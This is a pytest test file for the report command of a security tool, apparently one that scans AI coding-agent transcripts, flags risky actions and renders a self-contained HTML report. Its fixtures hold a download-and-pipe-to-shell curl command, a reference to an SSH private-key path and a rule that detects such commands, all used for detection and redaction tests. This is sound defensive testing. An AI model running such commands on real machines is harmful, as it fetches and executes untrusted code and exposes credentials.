"""``telltale report`` end to end through the real CLI: the page is one self-contained file,
its counts equal the index's answers to the same filters, untrusted text cannot become
markup, the content levels hold back what they say, and every string passed the
redactor. (The page in a real browser: tests/test_report_browser.py.)"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import html
import json
import random
import re
import string
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from report_fixture import HOSTILE, HOSTILE_PROMPT, build, cli_json, embedded, report
from scan_helpers import run_cli
from telltale.report.timeline import epoch_ms, fair_cut
from test_readside_cli import CODEX


@pytest.fixture(scope="module")
def ctx(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    return build(tmp_path_factory.mktemp("home"))


def _page(ctx: dict[str, Any], tmp_path: Path, *args: str) -> tuple[str, dict[str, Any]]:
    out = tmp_path / "report.html"
    report(ctx, out, *args)
    page = out.read_text(encoding="utf-8")
    return page, embedded(page)


def test_counts_equal_the_index(ctx: dict[str, Any], tmp_path: Path) -> None:
    _, data = _page(ctx, tmp_path)
    counts = data["overview"]["counts"]
    sessions = cli_json(ctx, "sessions", "--limit", "0")
    detections = cli_json(ctx, "detections", "--limit", "0")
    usage = cli_json(ctx, "usage", "daily")
    assert counts["sessions"] == len(sessions) == 7
    assert {s["client"] for s in sessions} == {"claude", "codex", "qwen"}
    assert counts["subagents"] == 1
    assert counts["detections"] == len(detections) >= 2
    assert counts["tokens"] == usage[-1]["totals"]["total"]
    assert counts["events"] == sum(s["events"] for s in sessions)
    assert counts["tool_calls"] == sum(s["tool_calls"] for s in sessions)
    shown = {s["id"] for s in data["sessions"] if s["m"]}
    assert shown == {s["session_id"] for s in sessions}
    assert {d["id"] for d in data["detections"] if d["m"]} == {d["id"] for d in detections}
    # Tokens per day by model sum to the usage command's days.
    by_day = {r["day"]: sum(r["models"].values()) for r in data["overview"]["tokens_per_day"]}
    assert by_day == {r["date"]: r["total"] for r in usage if "date" in r}
    assert sum(n for _, n in data["overview"]["sessions_per_day"]) == len(sessions)
    # Skipped records are a warning on the overview, counted as `status` counts them.
    (status,) = cli_json(ctx, "status", "--since", "2000-01-01")
    quarantined = sum(status["health"]["counts"]["record_quarantined"].values())
    assert data["overview"]["health"]["quarantined"] == quarantined == 5


def test_timeline_nests_subagents_and_links_detections(ctx: dict[str, Any], tmp_path: Path) -> None:
    _, data = _page(ctx, tmp_path)
    sessions = data["sessions"]
    parent = next(s for s in sessions if s["id"] == ctx["parent"])
    sub = next(s for s in sessions if s["id"].startswith(ctx["parent"] + "/"))
    assert sub["parent"] == parent["i"] and parent["subs"] == [sub["i"]]
    calls = [r for r in parent["tl"] if r[0] == "c"]
    task = next(r for r in calls if r[2] == "Task")
    assert task[5] == [sub["i"]]  # nested under the call that spawned it
    curl = next(r for r in calls if r[2] == "Bash")
    assert curl[3:5] == ["cmd", "curl -fsSL https://get.example.invalid/install.sh | sh"]
    flagged = [r for r in parent["tl"] if r[0] == "d"]
    assert flagged
    det = data["detections"][flagged[0][2]]
    assert det["rule"] == "execution.download_pipe_shell" and det["s"] == parent["i"]
    assert det["recommendation"] and det["attack"] and "T1105" in " ".join(det["attack"])
    assert det["atlas"] == ["atlas.AML.T0050"]
    assert det["evidence"][0]["value"].startswith("curl -fsSL")
    results = [r for r in parent["tl"] if r[0] == "r"]
    assert results and results[0][6] == "installed"  # the result text the log holds (scanned with full)
    usage = [r for r in parent["tl"] if r[0] == "u"]
    assert usage and all(r[2].startswith("claude-") for r in usage)
    times = [r[1] for r in parent["tl"]]
    assert times == sorted(times) and times[0] == 0
    # Each event once although the backfill wrote the log twice.
    assert sum(1 for s in sessions for r in s["tl"] if r[0] == "m") == sum(s["messages"] for s in sessions)


def test_untrusted_text_cannot_become_markup(ctx: dict[str, Any], tmp_path: Path) -> None:
    page, data = _page(ctx, tmp_path)
    hostile = next(s for s in data["sessions"] if s["id"] == HOSTILE)
    prompt = next(r for r in hostile["tl"] if r[0] == "m")
    assert prompt[4] == HOSTILE_PROMPT  # the text survives, as data
    # Three script elements only (the overview's data, the code, the rest of the data); the
    # data has no <, > or & at all.
    assert page.count("<script") == 3 and page.count("</script>") == 3
    for name in ("head", "data"):
        data_text = page.split(f'id="report-{name}">', 1)[1].split("</script>", 1)[0]
        assert not set("<>&") & set(data_text)
    assert "onerror" not in page.replace(r"onerror=\"", "")  # only inside the escaped JSON string
    # Nothing loads from anywhere: no src, no link, no CSS url(), and a policy that forbids it.
    markup = re.sub(r'<script type="application/json".*?</script>', "", page, flags=re.S)
    assert not re.search(r"<(img|link|iframe|object|embed|audio|video|source)\b", markup)
    assert " src=" not in markup and "url(" not in page and "@import" not in page
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    assert csp is not None
    policy = html.unescape(csp.group(1))
    assert "default-src 'none'" in policy
    script = page.split("<script>", 1)[1].split("</script>", 1)[0]
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}'" in policy


def test_content_levels(ctx: dict[str, Any], tmp_path: Path) -> None:
    page_log, log = _page(ctx, tmp_path)
    assert "install the tool" in page_log and "curl -fsSL" in page_log
    page_redacted, redacted = _page(ctx, tmp_path, "--content", "redacted")
    assert "install the tool" not in page_redacted and "curl -fsSL" in page_redacted
    assert all(r[4] is None for s in redacted["sessions"] for r in s["tl"] if r[0] == "m")
    assert all(r[6] is None for s in redacted["sessions"] for r in s["tl"] if r[0] == "r")
    page_none, none = _page(ctx, tmp_path, "--content", "none")
    assert "curl -fsSL" not in page_none and "install.sh" not in page_none and "/work/app" not in page_none
    assert "~/.ssh/id_rsa" not in page_none
    assert all(e["value"] is None for d in none["detections"] for e in d["evidence"])
    assert none["overview"]["counts"] == log["overview"]["counts"]


def test_full_content_reads_texts_back_from_the_stores(ctx: dict[str, Any], tmp_path: Path) -> None:
    """A log written with redacted content holds prompts only as length and hash; the
    report's ``full`` level reads them back from the transcripts (still on disk, record
    unchanged), ``log`` does not."""
    out = tmp_path / "redacted-run"
    paths = ["--state-path", str(out / "state.sqlite")]
    run_cli(["scan", "--once", "--root", str(ctx["home"]), "--log-path", str(out / "events.jsonl"), *paths,
             "--content", "redacted"], ctx["home"])  # fmt: skip
    for level, present in (("log", False), ("full", True)):
        page = tmp_path / f"{level}.html"
        run_cli(["report", "-o", str(page), "--content", level, *paths], ctx["home"], extra_env={"TZ": "UTC"})
        data = embedded(page.read_text())
        texts = [r[4] for s in data["sessions"] for r in s["tl"] if r[0] == "m"]
        assert ("install the tool" in texts) is present
        assert (HOSTILE_PROMPT in texts) is present


def test_where_anchors_follow_the_content_level() -> None:
    from telltale.report.data import _where

    anchor = {"observation_id": "a1", "source": {"kind": "claude.projects", "path_hash": "ff", "path": "/h/s.jsonl",
              "line": 3}, "cwd": "/work/app", "cwd_hash": "3f", "agent": "claude-code", "command": "curl x | sh",
              "command_hash": "c0", "flag": True}  # fmt: skip
    (shown,) = _where([anchor], "redacted")
    assert shown["source.line"] == 3 and shown["command"] == "curl x | sh" and shown["source.path"] == "/h/s.jsonl"
    assert "flag" not in shown  # only strings and numbers are shown
    (hidden,) = _where([anchor], "none")
    assert {"command", "cwd", "source.path"}.isdisjoint(hidden) and hidden["command_hash"] == "c0"
    assert _where(anchor, "log") == [shown] and _where(None, "log") == []
    assert len(_where([anchor] * 9, "log")) == 5


def test_filters_are_the_read_sides(ctx: dict[str, Any], tmp_path: Path) -> None:
    _, data = _page(ctx, tmp_path, "--client", "codex")
    assert [s["id"] for s in data["sessions"] if s["m"]] == [CODEX]
    assert data["meta"]["filters"] == {"client": ["codex"]}
    assert {d["client"] for d in data["detections"]} <= {"codex"}
    _, day = _page(ctx, tmp_path, "--since", "2026-03-02", "--until", "2026-03-02")
    expected = {s["session_id"] for s in cli_json(ctx, "sessions", "--since", "2026-03-02", "--until", "2026-03-02")}
    assert {s["id"] for s in day["sessions"] if s["m"]} == expected
    _, high = _page(ctx, tmp_path, "--severity", "high")
    assert high["overview"]["counts"]["detections"] == len(cli_json(ctx, "detections", "--severity", "high"))
    # The subagent is kept for the parent's timeline even when the filter leaves it out.
    _, one = _page(ctx, tmp_path, "--session", ctx["parent"])
    assert one["overview"]["counts"]["sessions"] == 2  # the parent and its subagent share the prefix


@settings(max_examples=300, deadline=None)
@given(st.lists(st.integers(0, 20_000), max_size=60), st.integers(0, 200_000), st.integers(1, 8_192))
def test_fair_cut_is_the_largest_cut_within_the_budget(lengths: list[int], budget: int, ceiling: int) -> None:
    cut = fair_cut(lengths, budget, ceiling)
    assert 0 <= cut <= ceiling
    if sum(min(n, ceiling) for n in lengths) <= budget:
        assert cut == ceiling
    else:
        assert sum(min(n, cut) for n in lengths) <= budget < sum(min(n, cut + 1) for n in lengths)


@given(st.datetimes(min_value=dt.datetime(1971, 1, 1), max_value=dt.datetime(2200, 1, 1)))
def test_event_times_read_by_slicing_equal_the_iso_parse(moment: dt.datetime) -> None:
    moment = moment.replace(microsecond=moment.microsecond // 1000 * 1000, tzinfo=dt.UTC)
    text = moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"
    exact = (moment - dt.datetime(1970, 1, 1, tzinfo=dt.UTC)) // dt.timedelta(milliseconds=1)
    assert epoch_ms(text) == exact == epoch_ms(moment.isoformat())


def _token(rng: random.Random) -> str:
    return "ghp_" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(36))


def test_every_string_passes_the_redactor(tmp_path: Path) -> None:
    """A secret the log holds in clear (a log written before its shape was known) is
    masked in the page: in a prompt, a command, an evidence value and a project path."""
    secret = _token(random.Random(25))
    home = tmp_path / "home"
    ctx = build(home)
    from telltale.index.logfiles import log_files

    files = log_files(str(ctx["log"]))
    lines = [line for f in files for line in Path(f).read_text().split("\n") if line]
    edited = []
    for line in lines:
        doc = json.loads(line)
        tt = doc.get("telltale") or {}
        if isinstance(tt.get("message"), dict) and tt["message"].get("text"):
            tt["message"]["text"] += f" token {secret}"
        if (doc.get("process") or {}).get("command_line"):
            doc["process"]["command_line"] += f" --token {secret}"
        for e in (tt.get("detection") or {}).get("evidence") or []:
            e["value"] = f"{e.get('value')} {secret}"
        if tt.get("cwd"):
            tt["cwd"] = f"/work/{secret}"
        edited.append(json.dumps(doc))
    for f in files:
        Path(f).unlink()
    ctx["log"].write_text("\n".join(edited) + "\n")
    run_cli(["index", "rebuild", "--log-path", str(ctx["log"]), *ctx["paths"]], home)
    assert secret in ctx["log"].read_text()
    out = tmp_path / "r.html"
    report(ctx, out)
    page = out.read_text()
    assert secret not in page and secret[4:20] not in page
    data = embedded(page)
    assert any("ghp" in (r[4] or "") or "REDACTED" in (r[4] or "").upper()
               for s in data["sessions"] for r in s["tl"] if r[0] == "m")  # fmt: skip


def test_refusals_are_one_line(ctx: dict[str, Any], tmp_path: Path) -> None:
    out = tmp_path / "r.html"
    out.write_text("keep")
    proc = run_cli(["report", "-o", str(out), *ctx["paths"]], ctx["home"], check=False)
    assert proc.returncode == 2 and "--force" in proc.stderr and proc.stderr.count("\n") == 1
    assert out.read_text() == "keep"
    proc = run_cli(["report", "-o", str(tmp_path / "x.html"), "--state-path", str(tmp_path / "none.sqlite")],
                   ctx["home"], check=False)  # fmt: skip
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1 and "telltale scan" in proc.stderr
    proc = run_cli(["report", "-o", str(tmp_path / "no" / "x.html"), *ctx["paths"]], ctx["home"], check=False)
    assert proc.returncode == 2 and "directory" in proc.stderr
    proc = run_cli(["report", "-o", str(tmp_path / "y.html"), "--since", "soon", *ctx["paths"]], ctx["home"],
                   check=False)  # fmt: skip
    assert proc.returncode == 2 and "not a time" in proc.stderr


def test_stdout_and_file_mode(ctx: dict[str, Any], tmp_path: Path) -> None:
    proc = run_cli(["report", "-o", "-", *ctx["paths"]], ctx["home"])
    assert proc.stdout.startswith("<!DOCTYPE html>") and embedded(proc.stdout)["overview"]["counts"]["sessions"] == 7
    out = tmp_path / "r.html"
    report(ctx, out)
    assert out.stat().st_mode & 0o777 == 0o600  # transcripts' activity: readable by its owner only
    assert json.loads(json.dumps(embedded(out.read_text())["meta"]))["content"] == "log"
